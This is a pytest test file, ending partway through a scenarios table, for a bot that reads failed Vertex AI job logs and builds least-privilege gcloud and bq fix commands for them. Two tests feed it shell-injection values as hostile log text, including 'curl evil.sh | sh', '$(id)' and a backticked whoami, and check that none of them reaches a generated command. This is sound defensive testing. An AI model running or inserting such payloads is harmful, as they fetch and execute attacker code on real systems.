"""Ready commands: filled from the evidence and the job, least privilege, and accepted by the real gcloud CLI."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest

from bot.diagnosis.classifier import Classifier
from bot.diagnosis.commands.fill import fill, fill_commands
from bot.diagnosis.knowledge import load_knowledge
from bot.diagnosis.knowledge_schema import CommandTemplate
from bot.intake.log_input import text_to_lines
from bot.models import Diagnosis, JobInfo, LogLine, WorkerPool
from tests.gcloud_parser import check_commands, gcloud_available, with_sample_values

JOB = JobInfo(
    job_id="8501620632646057984",
    project="acme-ml",
    region="europe-west4",
    display_name="resnet-50",
    state="JOB_STATE_FAILED",
    service_account="trainer@acme-ml.iam.gserviceaccount.com",
)
JOB_NO_SA = JOB.model_copy(update={"service_account": None})
AGENT_PLACEHOLDER = "serviceAccount:SERVICE_ACCOUNT_EMAIL"  # the command names what to fill in
# A distributed A100 job in us-central1: 8 GPUs on the chief, 2 workers of 8 (24 A100s in all) and a CPU pool.
A100_JOB = JOB.model_copy(
    update={
        "region": "us-central1",
        "worker_pools": [
            WorkerPool(machine_type="a2-highgpu-8g", accelerator_type="NVIDIA_TESLA_A100", accelerator_count=8),
            WorkerPool(
                machine_type="a2-highgpu-8g", accelerator_type="NVIDIA_TESLA_A100", accelerator_count=8, replica_count=2
            ),
            WorkerPool(machine_type="n1-highmem-16", replica_count=1),
        ],
    }
)
NOT_GOOGLE = ("aws", "azure", "huggingface", "kubernetes", "slurm")

BUCKET = (
    "google.api_core.exceptions.Forbidden: 403 GET https://storage.googleapis.com/storage/v1/b/acme-train-data/o: "
    "someone@example.com does not have storage.objects.list access to the Google Cloud Storage bucket. "
    "Permission 'storage.objects.list' denied on resource (or it may not exist)."
)
BIGQUERY_PROJECT = (
    "google.api_core.exceptions.Forbidden: 403 POST https://bigquery.googleapis.com/bigquery/v2/projects/data-lake-1/"
    "jobs: Access Denied: Project data-lake-1: User does not have bigquery.jobs.create permission in project "
    "data-lake-1."
)
BIGQUERY_TABLE = (
    "google.api_core.exceptions.Forbidden: 403 Access Denied: Table data-lake-1:events.clicks: User does not have "
    "permission to query table data-lake-1:events.clicks, or perhaps it does not exist."
)
ACT_AS = (
    'details = "You do not have permission to act as service_account: runner@acme-ml.iam.gserviceaccount.com. '
    '(or it may not exist)."'
)
QUOTA = (
    "google.api_core.exceptions.ResourceExhausted: 429 The following quota metrics exceed quota limits: "
    "aiplatform.googleapis.com/custom_model_training_nvidia_a100_gpus in region us-east4"
)
STOCKOUT = "The zone 'us-central1-a' does not have enough resources available to fulfill the request."
IP_SPACE = (
    "Instance 'gke-train-pool-3c1a-xk2p' creation failed: IP space of "
    "'projects/acme-ml/regions/europe-west4/subnetworks/gke-nodes' is exhausted."
)
VERTEX_STOCKOUT = (
    "Resources are insufficient in region: us-central1. Try a different region or use a different accelerator."
)

# ---- every common phrasing of a denial: (log, expected grant command start, role) -------------------------------
DENIALS = {
    "gcs_bare_bucket_name": (
        "AccessDeniedException: 403 trainer@acme-ml.iam.gserviceaccount.com does not have storage.objects.list "
        "access to acme-train-data.",
        "gcloud storage buckets add-iam-policy-binding gs://acme-train-data ",
        "roles/storage.objectViewer",
    ),
    "gcs_bucket_get_json_api": (
        "google.api_core.exceptions.Forbidden: 403 GET https://www.googleapis.com/storage/v1/b/acme-train-data?"
        "projection=noAcl: trainer@acme-ml.iam.gserviceaccount.com does not have storage.buckets.get access to "
        "the Google Cloud Storage bucket.",
        "gcloud storage buckets add-iam-policy-binding gs://acme-train-data ",
        "roles/storage.legacyBucketReader",
    ),
    "gcs_xml_api": (
        "HTTPError 403: <?xml version='1.0' encoding='UTF-8'?><Error><Code>AccessDenied</Code><Message>Access "
        "denied.</Message><Details>trainer@acme-ml.iam.gserviceaccount.com does not have storage.objects.get "
        "access to the Google Cloud Storage object.</Details></Error> for https://acme-train-data.storage."
        "googleapis.com/shards/train-00001.tfrecord",
        "gcloud storage buckets add-iam-policy-binding gs://acme-train-data ",
        "roles/storage.objectViewer",
    ),
    "gcloud_storage": (
        "ERROR: (gcloud.storage.cp) [trainer@acme-ml.iam.gserviceaccount.com] does not have permission to access "
        "b instance [acme-train-data] (or it may not exist): trainer@acme-ml.iam.gserviceaccount.com does not "
        "have storage.objects.list access to the Google Cloud Storage bucket. Permission 'storage.objects.list' "
        "denied on resource (or it may not exist).",
        "gcloud storage buckets add-iam-policy-binding gs://acme-train-data ",
        "roles/storage.objectViewer",
    ),
    "gsutil_upload_to_object_path": (
        "AccessDeniedException: 403 trainer@acme-ml.iam.gserviceaccount.com does not have storage.objects.create "
        "access to acme-checkpoints/run-7/step_1000/model.pt.",
        "gcloud storage buckets add-iam-policy-binding gs://acme-checkpoints ",
        "roles/storage.objectCreator",
    ),
    "tf_filesystem_read_without_a_permission": (
        "PermissionDeniedError: Error executing an HTTP request (HTTP response code 403, error code 0, error "
        "message '')\n\t when reading gs://acme-train-data/shards/train-00001.tfrecord",
        "gcloud storage buckets add-iam-policy-binding gs://acme-train-data ",
        "roles/storage.objectViewer",
    ),
    "tpu_service_agent": (
        '"message": "service-495559152420@cloud-tpu.iam.gserviceaccount.com does not have storage.objects.create '
        'access to acme-tpu-logs/train/events.out.tfevents.1587750594.v2."',
        "gcloud storage buckets add-iam-policy-binding gs://acme-tpu-logs "
        "--member=serviceAccount:service-495559152420@cloud-tpu.iam.gserviceaccount.com ",
        "roles/storage.objectCreator",
    ),
    "bigquery_table_get": (
        "BigQueryException: Access Denied: Table data-lake-1:events.clicks: Permission bigquery.tables.get denied "
        "on table data-lake-1:events.clicks (or it may not exist).",
        "bq add-iam-policy-binding -t ",
        "roles/bigquery.metadataViewer",
    ),
    "bigquery_table_get_data": (BIGQUERY_TABLE, "bq add-iam-policy-binding -t ", "roles/bigquery.dataViewer"),
    "bigquery_dataset": (
        "google.api_core.exceptions.Forbidden: 403 Access Denied: Dataset data-lake-1:events: Permission "
        "bigquery.tables.list denied on dataset data-lake-1:events (or it may not exist).",
        "bq add-iam-policy-binding -d ",
        "roles/bigquery.metadataViewer",
    ),
    "bigquery_domain_scoped_project": (
        "BigQuery error in query operation: Access Denied: Project google.com:cluster-data: User does not have "
        "bigquery.jobs.create permission in project google.com:cluster-data.",
        "gcloud projects add-iam-policy-binding google.com:cluster-data ",
        "roles/bigquery.jobUser",
    ),
    "bigquery_storage_read_session": (
        "google.api_core.exceptions.PermissionDenied: 403 request failed: the user does not have "
        "'bigquery.readsessions.create' permission for 'projects/data-lake-1'",
        "gcloud projects add-iam-policy-binding data-lake-1 ",
        "roles/bigquery.readSessionUser",
    ),
    "vertex_tensorboard": (
        "google.api_core.exceptions.PermissionDenied: 403 Permission 'aiplatform.tensorboards.get' denied on "
        "resource '//aiplatform.googleapis.com/projects/acme-ml/locations/europe-west4/tensorboards/5077' "
        "(or it may not exist).",
        "gcloud projects add-iam-policy-binding acme-ml ",
        "roles/aiplatform.viewer",
    ),
    "artifact_registry_pull": (
        'Failed to pull image "europe-west4-docker.pkg.dev/acme-ml/trainers/resnet:1.2": 403 Forbidden\n'
        'denied: Permission "artifactregistry.repositories.downloadArtifacts" denied on resource '
        '"projects/acme-ml/locations/europe-west4/repositories/trainers" (or it may not exist)',
        "gcloud artifacts repositories add-iam-policy-binding "
        "projects/acme-ml/locations/europe-west4/repositories/trainers ",
        "roles/artifactregistry.reader",
    ),
    "container_registry_pull": (
        "Error response from daemon: Head https://gcr.io/v2/acme-ml/trainer/manifests/latest: denied: "
        "Permission 'artifactregistry.repositories.downloadArtifacts' denied on resource (or it may not exist). "
        "Image: gcr.io/acme-ml/trainer:latest",
        "gcloud artifacts repositories add-iam-policy-binding projects/acme-ml/locations/us/repositories/gcr.io ",
        "roles/artifactregistry.reader",
    ),
    "container_registry_bucket": (
        "Error response from daemon: pull access denied for eu.gcr.io/acme-ml/trainer, denied: Token exchange "
        "failed for project 'acme-ml'. Caller does not have permission 'storage.buckets.get'. To configure "
        "permissions, follow instructions at: https://cloud.google.com/container-registry/docs/access-control",
        "gcloud storage buckets add-iam-policy-binding gs://eu.artifacts.acme-ml.appspot.com ",
        "roles/storage.legacyBucketReader",
    ),
    "secret_manager": (
        "google.api_core.exceptions.PermissionDenied: 403 Permission 'secretmanager.versions.access' denied for "
        "resource 'projects/acme-ml/secrets/hf-token/versions/latest' (or it may not exist).",
        "gcloud secrets add-iam-policy-binding projects/acme-ml/secrets/hf-token ",
        "roles/secretmanager.secretAccessor",
    ),
    "pubsub_publish": (
        "google.api_core.exceptions.PermissionDenied: 403 User not authorized to perform this action. "
        "Permission 'pubsub.topics.publish' denied on resource 'projects/acme-ml/topics/train-metrics'",
        "gcloud pubsub topics add-iam-policy-binding projects/acme-ml/topics/train-metrics ",
        "roles/pubsub.publisher",
    ),
    "pubsub_subscribe": (
        "google.api_core.exceptions.PermissionDenied: 403 Permission 'pubsub.subscriptions.consume' denied on "
        "resource 'projects/acme-ml/subscriptions/train-events' (or it may not exist).",
        "gcloud pubsub subscriptions add-iam-policy-binding projects/acme-ml/subscriptions/train-events ",
        "roles/pubsub.subscriber",
    ),
    "cloud_kms": (
        "google.api_core.exceptions.PermissionDenied: 403 Permission 'cloudkms.cryptoKeyVersions.useToDecrypt' "
        "denied on resource 'projects/acme-ml/locations/europe-west4/keyRings/train/cryptoKeys/data' "
        "(or it may not exist).",
        "gcloud kms keys add-iam-policy-binding projects/acme-ml/locations/europe-west4/keyRings/train/cryptoKeys/"
        "data ",
        "roles/cloudkms.cryptoKeyDecrypter",
    ),
    "act_as": (
        ACT_AS,
        "gcloud iam service-accounts add-iam-policy-binding projects/-/serviceAccounts/runner@acme-ml.iam."
        "gserviceaccount.com --member=user:SUBMITTER_EMAIL ",
        "roles/iam.serviceAccountUser",
    ),
    "act_as_named_on_the_account": (
        "google.api_core.exceptions.PermissionDenied: 403 Permission 'iam.serviceAccounts.actAs' denied on service "
        "account 123456789012-compute@developer.gserviceaccount.com (or it may not exist).",
        "gcloud iam service-accounts add-iam-policy-binding projects/-/serviceAccounts/123456789012-compute@"
        "developer.gserviceaccount.com --member=user:SUBMITTER_EMAIL ",
        "roles/iam.serviceAccountUser",
    ),
    "impersonation": (
        "google.auth.exceptions.RefreshError: ('Unable to acquire impersonated credentials', "
        "'Permission 'iam.serviceAccounts.getAccessToken' denied on resource (or it may not exist).') "
        "for service account runner@acme-ml.iam.gserviceaccount.com",
        "gcloud iam service-accounts add-iam-policy-binding projects/-/serviceAccounts/runner@acme-ml.iam."
        "gserviceaccount.com --member=serviceAccount:trainer@acme-ml.iam.gserviceaccount.com ",
        "roles/iam.serviceAccountTokenCreator",
    ),
    # a console or a paste that wrapped the message: the permission at the end of one line, "denied" on the next
    "permission_wrapped_before_denied": (
        "google.api_core.exceptions.PermissionDenied: 403 Permission 'pubsub.topics.publish' \n"
        "denied on resource projects/acme-ml/topics/train-events (or it may not exist).",
        "gcloud pubsub topics add-iam-policy-binding projects/acme-ml/topics/train-events ",
        "roles/pubsub.publisher",
    ),
    # a registry refusal naming no repository, from a job whose image the spec does not give: the grant is still
    # the reader role on a repository (its name left to fill), never the project
    "artifact_registry_repository_unnamed": (
        "403 Permission 'artifactregistry.repositories.downloadArtifacts' denied on resource (or it may not exist).",
        "gcloud artifacts repositories add-iam-policy-binding projects/acme-ml/locations/REPOSITORY_LOCATION/"
        "repositories/REPOSITORY --member=serviceAccount:trainer@acme-ml.iam.gserviceaccount.com ",
        "roles/artifactregistry.reader",
    ),
}


@pytest.fixture(scope="module")
def classifier() -> Classifier:
    return Classifier(load_knowledge())


def diagnose(classifier: Classifier, text: str, job: JobInfo | None = JOB) -> Diagnosis:
    return classifier.classify(text_to_lines(text), job)


def commands_of(diagnosis: Diagnosis) -> list[str]:
    return [command.command for command in diagnosis.commands]


def grants(diagnosis: Diagnosis) -> list[str]:
    return [c for c in commands_of(diagnosis) if "add-iam-policy-binding" in c]


# ---- permissions ------------------------------------------------------------------------------------------------


def test_bucket_denial_grants_the_narrowest_role_on_the_bucket_to_the_jobs_account(classifier) -> None:
    diagnosis = diagnose(classifier, BUCKET)
    assert diagnosis.failure_class == "permission_denied"
    grant = next(c for c in commands_of(diagnosis) if "buckets add-iam-policy-binding" in c)
    assert grant.startswith("gcloud storage buckets add-iam-policy-binding gs://acme-train-data ")
    assert "--member=serviceAccount:trainer@acme-ml.iam.gserviceaccount.com" in grant
    assert "--role=roles/storage.objectViewer" in grant
    assert not any("projects add-iam-policy-binding" in c for c in commands_of(diagnosis))
    assert "someone@example.com" not in " ".join(commands_of(diagnosis))  # a user's own IAM is the trap


@pytest.mark.parametrize("name", sorted(DENIALS))
def test_every_common_phrasing_grants_the_narrowest_role_on_the_resource_itself(classifier, name: str) -> None:
    text, start, role = DENIALS[name]
    diagnosis = diagnose(classifier, text)
    assert diagnosis.failure_class == "permission_denied", diagnosis.public_dict()
    granted = grants(diagnosis)
    assert len(granted) == 1, granted  # one grant, on one resource
    assert granted[0].startswith(start), granted[0]
    assert f"--role={role}" in granted[0]
    if not start.startswith("gcloud projects"):
        assert not any("projects add-iam-policy-binding" in c for c in commands_of(diagnosis))  # not the project
    assert "PROJECT_ID" not in " ".join(commands_of(diagnosis))  # the job's project is known


def test_a_bucket_named_without_the_words_google_cloud_storage_bucket(classifier) -> None:
    diagnosis = diagnose(classifier, "403 #email# does not have storage.objects.list access to open-images-dataset.")
    assert diagnosis.details["bucket"] == "open-images-dataset"
    assert grants(diagnosis) == [
        "gcloud storage buckets add-iam-policy-binding gs://open-images-dataset "
        "--member=serviceAccount:trainer@acme-ml.iam.gserviceaccount.com --role=roles/storage.objectViewer"
    ]


def test_the_bucket_refused_is_the_one_on_the_denial_line_not_one_logged_nearby(classifier) -> None:
    noise = [f"step {i} loss 0.4 gs://acme-other/shard-{i}.tfrecord 403 ok" for i in range(400, 405)]
    diagnosis = diagnose(classifier, "\n".join([*noise, BUCKET]))
    assert diagnosis.details["bucket"] == "acme-train-data"
    assert "gs://acme-other" not in " ".join(commands_of(diagnosis))


def test_iam_is_asked_why_on_the_full_name_of_the_resource(classifier) -> None:
    troubleshoot = [
        c for c in commands_of(diagnose(classifier, DENIALS["secret_manager"][0])) if "troubleshoot-policy" in c
    ]
    assert troubleshoot == [
        "gcloud policy-intelligence troubleshoot-policy iam //secretmanager.googleapis.com/projects/acme-ml/secrets/"
        "hf-token --principal-email=trainer@acme-ml.iam.gserviceaccount.com "
        "--permission=secretmanager.versions.access"
    ]


def test_job_without_a_service_account_uses_the_custom_code_service_agent(classifier) -> None:
    diagnosis = diagnose(
        classifier,
        BUCKET + "\nTo find out more about why your job exited please check the logs: "
        "https://console.cloud.google.com/logs/viewer?project=608533675308&resource=ml_job%2Fjob_id%2F1",
        JOB_NO_SA,
    )
    assert diagnosis.details["service_account"] == "service-608533675308@gcp-sa-aiplatform-cc.iam.gserviceaccount.com"
    assert all("608533675308@gcp-sa-aiplatform-cc" in c for c in commands_of(diagnosis) if "--member=serviceA" in c)
    unnumbered = diagnose(classifier, BUCKET, JOB_NO_SA)
    assert "service_account" not in unnumbered.details  # unknown: left out, never a placeholder
    assert all(AGENT_PLACEHOLDER in c for c in commands_of(unnumbered) if "--member=" in c)


def test_a_service_agent_named_in_the_error_receives_the_grant_and_its_number_is_not_a_project(classifier) -> None:
    text = (
        "google.api_core.exceptions.Forbidden: 403 GET https://storage.googleapis.com/storage/v1/b/acme-data/o/x: "
        "service-608533675308@gcp-sa-aiplatform-cc.iam.gserviceaccount.com does not have storage.objects.get "
        "access to the Google Cloud Storage object."
    )
    diagnosis = diagnose(classifier, text, job=None)
    grant = grants(diagnosis)[0]
    assert "--member=serviceAccount:service-608533675308@gcp-sa-aiplatform-cc.iam.gserviceaccount.com" in grant
    assert diagnosis.details["project_number"] == "608533675308"
    assert "project" not in diagnosis.details  # a number is never the project id
    assert "608533675308 " not in " ".join(commands_of(diagnosis))


def test_the_project_is_filled_from_the_service_account_or_the_resource_never_left_a_placeholder(classifier) -> None:
    text = DENIALS["gcs_bare_bucket_name"][0]  # names trainer@acme-ml.iam.gserviceaccount.com
    assert "PROJECT_ID" not in " ".join(commands_of(diagnose(classifier, text, job=None)))
    assert diagnose(classifier, text, job=None).details["project"] == "acme-ml"
    secret = diagnose(classifier, DENIALS["secret_manager"][0], job=None)  # names projects/acme-ml/secrets/...
    assert secret.details["project"] == "acme-ml"
    assert "PROJECT_ID" not in " ".join(commands_of(secret))
    nothing = diagnose(classifier, BUCKET, job=None)  # neither is named: the placeholder says what to fill in
    assert "--member=serviceAccount:SERVICE_ACCOUNT_EMAIL" in grants(nothing)[0]


def test_bigquery_project_permission_is_a_project_binding_of_job_user(classifier) -> None:
    diagnosis = diagnose(classifier, BIGQUERY_PROJECT)
    grant = next(c for c in commands_of(diagnosis) if "projects add-iam-policy-binding" in c)
    assert grant.startswith("gcloud projects add-iam-policy-binding data-lake-1 ")
    assert "--role=roles/bigquery.jobUser" in grant


def test_bigquery_table_denial_is_a_table_binding(classifier) -> None:
    diagnosis = diagnose(classifier, BIGQUERY_TABLE)
    grant = next(c for c in commands_of(diagnosis) if c.startswith("bq "))
    assert grant.endswith(" data-lake-1:events.clicks")
    assert "-t " in grant and "--role=roles/bigquery.dataViewer" in grant


@pytest.mark.parametrize(
    "text",
    [
        ACT_AS,
        # the same refusal pasted from a page that made the address a link, or quoted it in backticks
        'details = "You do not have permission to act as service_account: [runner@acme-ml.iam.gserviceaccount.com]'
        '(mailto:runner@acme-ml.iam.gserviceaccount.com). (or it may not exist)."',
        "PermissionDenied: 403 You do not have permission to act as service account `runner@acme-ml.iam."
        "gserviceaccount.com`",
        # the account wrapped onto the next line
        "FailedPrecondition: 400 You do not have permission to act as service_account:\n"
        "  runner@acme-ml.iam.gserviceaccount.com. (or it may not exist)",
    ],
)
def test_act_as_grants_service_account_user_on_that_one_account(classifier, text: str) -> None:
    diagnosis = diagnose(classifier, text, JOB)  # the job runs as another account: the refused one is granted on
    grant = next(c for c in commands_of(diagnosis) if "service-accounts add-iam-policy-binding" in c)
    assert grant.startswith(
        "gcloud iam service-accounts add-iam-policy-binding projects/-/serviceAccounts/runner@acme-ml.iam."
        "gserviceaccount.com "
    )
    assert "--role=roles/iam.serviceAccountUser" in grant
    assert "--member=user:SUBMITTER_EMAIL" in grant  # unknown: an explicit placeholder, not a guess


@pytest.mark.parametrize(
    "text",
    [
        "botocore.exceptions.ClientError: An error occurred (AccessDenied) when calling the GetObject operation: "
        "Access Denied",
        "An error occurred (403) when calling the HeadObject operation: Forbidden",
        "huggingface_hub.utils._errors.GatedRepoError: 401 Client Error.\nCannot access gated repo for url "
        "https://huggingface.co/api/models/meta-llama/Meta-Llama-3-8B-Instruct/revision/main.\nAccess to model "
        "meta-llama/Meta-Llama-3-8B-Instruct is restricted. You must be authenticated to access it.",
        "requests.exceptions.HTTPError: 401 Client Error: Unauthorized for url: "
        "https://huggingface.co/meta-llama/Llama-2-7b-chat-hf/resolve/main/tokenizer_config.json",
    ],
)
def test_a_denial_outside_google_cloud_gets_no_gcloud_command(classifier, text: str) -> None:
    diagnosis = diagnose(classifier, text)  # even for a Vertex AI job: no gcloud grant can open S3 or a gated repo
    assert diagnosis.failure_class == "permission_denied"
    assert diagnosis.details["platform"] in NOT_GOOGLE
    assert commands_of(diagnosis) == []


def test_no_command_ever_grants_a_basic_role() -> None:
    template = CommandTemplate(title="t", template="gcloud projects add-iam-policy-binding p --role={role}")
    for role in ("roles/owner", "roles/editor", "roles/viewer"):
        assert fill_commands([template], {"role": role}) == []
    assert fill_commands([template], {"role": "roles/aiplatform.viewer"})  # a predefined role named *viewer is fine
    roles = {row.role for row in load_knowledge().tables["iam_permission_roles"].rows}
    assert not roles & {"roles/owner", "roles/editor", "roles/viewer"}


def test_a_value_from_the_log_enters_a_command_only_in_its_identifier_form(classifier) -> None:
    hostile = (
        "403 trainer@acme-ml.iam.gserviceaccount.com does not have storage.objects.get access to "
        "x;curl$IFS'evil.sh'|sh.\nPermission 'secretmanager.versions.access' denied for resource "
        "'projects/$(id)/secrets/`whoami`'"
    )
    text = " ".join(commands_of(diagnose(classifier, hostile)))
    for needle in ("$", "`", ";", "|", "curl", "whoami"):
        assert needle not in text, text


# ---- quota and capacity -----------------------------------------------------------------------------------------


def test_quota_commands_name_the_quota_id_the_region_and_what_the_job_asks(classifier) -> None:
    diagnosis = diagnose(classifier, QUOTA, A100_JOB)
    assert diagnosis.failure_class == "quota_exhausted"
    text = "\n".join(commands_of(diagnosis))
    preference = next(c for c in commands_of(diagnosis) if "quotas preferences create" in c)
    assert preference.startswith(
        "gcloud beta quotas preferences create --service=aiplatform.googleapis.com "
        "--quota-id=CustomModelTrainingA100GPUsPerProjectPerRegion --preferred-value=24 "
    )
    assert "--dimensions=region=us-east4" in preference  # the error's region wins over the job's
    assert "--project=acme-ml" in preference
    assert "gcloud beta quotas info describe CustomModelTrainingA100GPUsPerProjectPerRegion" in text
    assert "ALTERNATIVE_REGION" not in text and "alpha services quota" not in text


def test_unknown_values_stay_placeholders(classifier) -> None:
    diagnosis = diagnose(classifier, QUOTA.replace(" in region us-east4", ""), job=None)
    text = "\n".join(commands_of(diagnosis))
    assert "--project=PROJECT_ID" in text and "--dimensions=region=REGION" in text
    assert "--preferred-value=PREFERRED_VALUE" in text
    assert "acme-ml" not in text


@pytest.mark.parametrize(
    ("text", "service", "quota_id", "dimensions", "value"),
    [
        (
            "Error QUOTA_EXCEEDED: Instance 'vm-1' creation failed: Quota 'NVIDIA_T4_GPUS' exceeded. Limit: 1.0 in "
            "region us-central1.",
            "compute.googleapis.com",
            "NVIDIA-T4-GPUS-per-project-region",
            "--dimensions=region=us-central1 ",
            None,
        ),
        (
            "ERROR: (gcloud.compute.instances.create) Could not fetch resource:\n - Quota 'GPUS_ALL_REGIONS' "
            "exceeded. Limit: 0.0 globally.",
            "compute.googleapis.com",
            "GPUS-ALL-REGIONS-per-project",
            None,  # a global quota has no region dimension
            None,
        ),
        (
            "ERROR:root:[Ray on Vertex AI]: The following quotas are exceeded: "
            "CustomModelTrainingT4GPUsPerProjectPerRegion",
            "aiplatform.googleapis.com",
            "CustomModelTrainingT4GPUsPerProjectPerRegion",
            "--dimensions=region=europe-west4 ",
            None,
        ),
        (
            "Error 403: Insufficient regional quota to satisfy request: resource \"CPUS\": request requires '72.0' "
            "and is short '48.0'. project has a quota of '24.0' with '24.0' available. View and manage quotas at "
            "https://console.cloud.google.com/iam-admin/quotas?usage=USED&project=acme-ml., forbidden",
            "compute.googleapis.com",
            "CPUS-per-project-region",
            "--dimensions=region=europe-west4 ",
            "72",  # what the project needs in all: its limit, less what is free, plus the request
        ),
        (
            "Quota 'TPUV4sPreemptiblePodPerProjectPerRegionForTPUAPI' exhausted. Limit 20800 in region us-central2",
            "tpu.googleapis.com",
            "TPUV4sPreemptiblePodPerProjectPerRegionForTPUAPI",
            "--dimensions=region=us-central2 ",
            None,
        ),
    ],
)
def test_each_quota_error_form_gets_one_filled_preference(
    classifier, text: str, service: str, quota_id: str, dimensions: str | None, value: str | None
) -> None:
    diagnosis = diagnose(classifier, text)
    assert diagnosis.failure_class == "quota_exhausted", diagnosis.public_dict()
    preferences = [c for c in commands_of(diagnosis) if "quotas preferences create" in c]
    assert len(preferences) == 1, preferences
    assert f"--service={service} --quota-id={quota_id} " in preferences[0]
    assert ("--dimensions=" not in preferences[0]) if dimensions is None else (dimensions in preferences[0])
    if value:
        assert f"--preferred-value={value} " in preferences[0]


def test_a_metric_the_table_lacks_is_looked_up_not_guessed(classifier) -> None:
    text = "The following quota metrics exceed quota limits: aiplatform.googleapis.com/custom_model_training_tpu_v2"
    commands = commands_of(diagnose(classifier, text))
    assert not any("quotas preferences create" in c for c in commands)  # no id for TPU v2 is confirmed
    assert any(
        "gcloud beta quotas info list --service=aiplatform.googleapis.com --project=acme-ml "
        "--filter=metric=aiplatform.googleapis.com/custom_model_training_tpu_v2" in c
        for c in commands
    )


@pytest.mark.parametrize("text", [VERTEX_STOCKOUT, STOCKOUT])
def test_a_stockout_gets_other_regions_spot_flex_start_and_reservations_never_a_quota_request(
    classifier, text: str
) -> None:
    diagnosis = diagnose(classifier, text, A100_JOB)
    assert diagnosis.failure_class == "quota_exhausted" and diagnosis.title.startswith("Capacity stockout")
    commands = commands_of(diagnosis)
    assert not any("quotas preferences" in c for c in commands)
    assert "ALTERNATIVE_REGION" not in " ".join(commands)
    move = next(c for c in diagnosis.commands if "custom-jobs create --region=us-east1 " in c.command)
    assert "NVIDIA_TESLA_A100" in move.title and "us-central1" not in move.command
    assert any("FLEX_START" in c.title and "--region=us-central1 " in c.command for c in diagnosis.commands)
    assert "gcloud compute reservations list --project=acme-ml --filter=zone~us-central1" in commands
    assert (
        "gcloud beta quotas info describe CustomModelTrainingA100GPUsPerProjectPerRegion "
        "--service=aiplatform.googleapis.com --project=acme-ml" in commands
    )


def test_a_stockout_names_the_accelerator_from_the_compute_engine_error(classifier) -> None:
    text = (
        "ZONE_RESOURCE_POOL_EXHAUSTED_WITH_DETAILS\n   A n1-highmem-2 VM instance with 2 nvidia-tesla-t4 "
        "accelerator(s) is currently unavailable in the us-west1-b zone. Alternatively, you can try your request "
        "again with a different VM hardware configuration or at a later time."
    )
    diagnosis = diagnose(classifier, text, job=None)
    assert diagnosis.details["accelerator"] == "NVIDIA_TESLA_T4" and diagnosis.details["region"] == "us-west1"
    assert any("custom-jobs create --region=us-central1 " in c for c in commands_of(diagnosis))


def test_a_stockout_outside_the_known_regions_gets_no_guessed_region(classifier) -> None:
    diagnosis = diagnose(classifier, VERTEX_STOCKOUT.replace("us-central1", "europe-west4"), A100_JOB)
    commands = commands_of(diagnosis)
    assert not any("custom-jobs create --region=us-" in c for c in commands)  # data residency: no US region
    assert any("quotas info describe CustomModelTrainingA100GPUsPerProjectPerRegion" in c for c in commands)
    # where the A100 is offered: Compute Engine's zone list for its accelerator name, in the job's project
    listing = [c for c in commands if c.startswith("gcloud compute accelerator-types list")]
    assert listing == ["gcloud compute accelerator-types list --filter=name=nvidia-tesla-a100 --project=acme-ml"]


@pytest.mark.parametrize(
    "text",
    [
        "ResourceLimitExceeded: An error occurred (ResourceLimitExceeded) when calling the CreateTrainingJob "
        "operation: The account-level service limit 'ml.p3.2xlarge for training job usage' is 0 Instances",
        "Warning  FailedScheduling  40s  default-scheduler  0/2 nodes are available: 2 Insufficient nvidia.com/gpu.",
    ],
)
def test_a_quota_outside_google_cloud_gets_no_gcloud_command(classifier, text: str) -> None:
    diagnosis = diagnose(classifier, text)
    assert diagnosis.failure_class == "quota_exhausted"
    assert commands_of(diagnosis) == []


# ---- the job's own commands, for every class --------------------------------------------------------------------

OOM_CASCADE = [
    LogLine(text="torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB", replica="workerpool1-2"),
    LogLine(text="[Rank 0] Watchdog caught collective operation timeout: WorkNCCL", replica="workerpool0-0"),
]


def test_every_class_gets_describe_logs_stream_and_spec_commands(classifier) -> None:
    diagnosis = classifier.classify(OOM_CASCADE, JOB)
    assert diagnosis.failure_class == "accelerator_oom"
    commands = commands_of(diagnosis)
    prefix = "gcloud ai custom-jobs describe 8501620632646057984 --region=europe-west4 --project=acme-ml"
    assert prefix in commands
    assert f"{prefix} --format='yaml(jobSpec)'" in commands
    assert "gcloud ai custom-jobs stream-logs 8501620632646057984 --region=europe-west4 --project=acme-ml" in commands
    logs = next(c for c in diagnosis.commands if c.command.startswith("gcloud logging read"))
    assert 'resource.labels.task_name="workerpool1-2"' in logs.command  # the first failing replica
    assert "workerpool1-2" in logs.title
    kb = load_knowledge()
    for failure_class in kb:
        templates = [c.template for c in failure_class.commands]
        assert any(t.startswith("gcloud ai custom-jobs describe {job_id}") for t in templates), failure_class.id


def test_a_job_without_a_failing_replica_reads_its_error_entries(classifier) -> None:
    commands = commands_of(diagnose(classifier, "all good here"))
    logs = [c for c in commands if c.startswith("gcloud logging read")]
    assert len(logs) == 1 and "severity>=ERROR" in logs[0] and "resource.labels.task_name=" not in logs[0]


def test_an_input_bound_job_is_told_how_to_profile(classifier) -> None:
    text = "WARNING:tensorflow:Your input pipeline is the bottleneck: the GPU is idle waiting for data 83% of the time"
    diagnosis = diagnose(classifier, text)
    assert diagnosis.failure_class == "input_pipeline"
    assert "gcloud ai tensorboards list --region=europe-west4 --project=acme-ml" in commands_of(diagnosis)


def test_only_a_vertex_task_name_enters_the_logging_filter(classifier) -> None:
    lines = [LogLine(text="CUDA out of memory. Tried to allocate 2.00 GiB", replica="trainer-0")]
    diagnosis = classifier.classify(lines, JOB)
    assert "task_name" not in diagnosis.details
    assert not any("task_name=" in c for c in commands_of(diagnosis))


def test_log_text_cannot_inject_shell_into_commands() -> None:
    command = fill("gcloud storage buckets describe gs://{bucket}", {"bucket": "x; curl evil.sh | sh"})
    assert command == "gcloud storage buckets describe gs://BUCKET"
    assert shlex.split(command)[-1] == "gs://BUCKET"


SCENARIOS = {
    "bucket": (BUCKET, JOB),
    "bucket_no_sa": (BUCKET, JOB_NO_SA),
    "bucket_no_job": (BUCKET, None),
    "bigquery_project": (BIGQUERY_PROJECT, JOB),
    "bigquery_table": (BIGQUERY_TABLE, JOB),
    "act_as": (ACT_AS, JOB),
    "quota": (QUOTA, JOB),
    "quota_a100_job": (QUOTA, A100_JOB),
    "quota_no_job": (QUOTA, None),
    "stockout": (STOCKOUT, JOB),
    "stockout_a100_job": (VERTEX_STOCKOUT, A100_JOB),
    "stockout_no_job": (VERTEX_STOCKOUT, None),
    "stockout_outside_the_us": (VERTEX_STOCKOUT.replace("us-central1", "europe-west4"), A100_JOB),
    "quota_compute_global": ("Quota 'GPUS_ALL_REGIONS' exceeded. Limit: 0.0 globally.", None),
    "quota_gpu_family": (
